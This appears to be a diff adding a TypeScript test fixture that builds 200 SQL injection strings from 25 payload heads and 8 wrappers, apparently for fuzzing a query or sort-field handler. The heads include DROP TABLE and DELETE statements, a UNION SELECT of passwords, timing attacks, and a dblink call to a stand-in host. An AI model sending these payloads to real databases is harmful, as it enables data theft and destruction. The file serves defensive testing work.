@@ -1,0 +1,40 @@
+/** 200 ways to smuggle SQL in, as they are tried against other products (hostile-cases.md A04-A06). */
+const heads = [
+  "' OR 1=1 --",
+  "' OR '1'='1",
+  '" OR ""="',
+  "'; DROP TABLE users; --",
+  '1); DELETE FROM record_history; --',
+  "') UNION SELECT password FROM identity_credentials --",
+  '1 AND (SELECT pg_sleep(5)) IS NOT NULL',
+  'if(1=2,sleep(1),sleep(3))',
+  'title) FROM x; --',
+  'title" DESC; --',
+  'title"; ATTACH DATABASE "/tmp/x" AS y; --',
+  '$1',
+  '?',
+  '??',
+  ':name',
+  '\\?',
+  'title COLLATE NOCASE',
+  "title->>'$.a'",
+  "data #>> '{a,b}'",
+  'lo_import(0)',
+  "dblink('host=evil')",
+  "load_extension('x')",
+  'randomblob(1000000000)',
+  'title/**/OR/**/1=1',
+  'title\u0000',
+]
+const wraps = [
+  (text: string) => text,
+  (text: string) => `title${text}`,
+  (text: string) => `${text}title`,
+  (text: string) => `title.${text}`,
+  (text: string) => text.toUpperCase() + ' ',
+  (text: string) => `(${text})`,
+  (text: string) => `"${text}"`,
+  (text: string) => `title,${text}`,
+]
+
+export const sqlPayloads: readonly string[] = wraps.flatMap((wrap) => heads.map(wrap))
